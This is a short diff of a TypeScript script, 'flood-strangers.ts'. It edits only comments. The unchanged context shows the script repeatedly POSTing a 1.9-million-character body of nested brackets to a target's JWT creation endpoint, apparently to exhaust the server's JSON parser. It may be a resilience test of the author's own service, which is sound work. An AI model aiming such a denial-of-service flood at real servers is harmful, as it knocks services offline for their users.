@@ -1,4 +1,4 @@
-// Strangers alone, a process of their own: flood-strangers.ts <url>. Three loops of bodies that nest without end, until `end`.
+// Strangers in a process of their own: flood-strangers.ts <url>. Three loops of endlessly nesting bodies, until `end`.
 const LOOPS = 3;
 const DEEP = '['.repeat(1_900_000);
 const [url = ''] = process.argv.slice(2);
@@ -12,7 +12,7 @@ async function send(): Promise<void> {
     const response = await fetch(`${url}/api/auth/jwt/create/`, { method: 'POST', headers, body: DEEP });
     await response.text();
   } catch {
-    // The server ended the connection before the body did.
+    // The server closed the connection before the end of the body.
   }
 }
 
